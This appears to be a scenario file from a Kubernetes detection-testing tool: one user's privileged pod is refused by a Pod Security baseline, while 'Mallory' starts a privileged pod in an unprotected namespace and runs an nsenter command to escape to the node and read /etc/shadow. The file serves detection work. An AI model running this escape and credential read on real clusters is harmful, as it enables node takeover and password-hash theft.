"""A privileged pod, started by hand."""

from recorder.objects import pod
from recorder.people import BOB, MALLORY
from recorder.scenario import scenario
from recorder.stage import Stage


@scenario(
    title="A privileged pod is started by hand",
    use_case="pod-security",
    techniques=["T1610", "T1611"],
    detect="a pod with a privileged container, made by a person and not by a controller",
)
def play(stage: Stage) -> None:
    """Bob tries a privileged pod in the shop, where the Pod Security Standard baseline refuses it. Mallory starts one
    in the namespace analytics, which has no standard, and looks at the node from it.
    """
    debug = pod("debug", "shop", "docker.io/library/alpine:3.22", securityContext={"privileged": True})
    shell = pod("node-shell", "analytics", "docker.io/library/alpine:3.22", securityContext={"privileged": True})

    stage.at("09:17:40")
    stage.play_as(BOB).kubectl("apply", "-f", "-", given=debug, fails=True)

    mallory = stage.play_as(MALLORY)
    stage.at("09:24:11")
    mallory.kubectl("get", "namespaces")
    mallory.kubectl("apply", "-f", "-", given=shell)
    stage.wait_for_pod("analytics", "node-shell")

    stage.at("09:25:02")
    mallory.kubectl("exec", "-n", "analytics", "node-shell", "--", "sh", "-c", "nsenter -t 1 -m -- cat /etc/shadow")
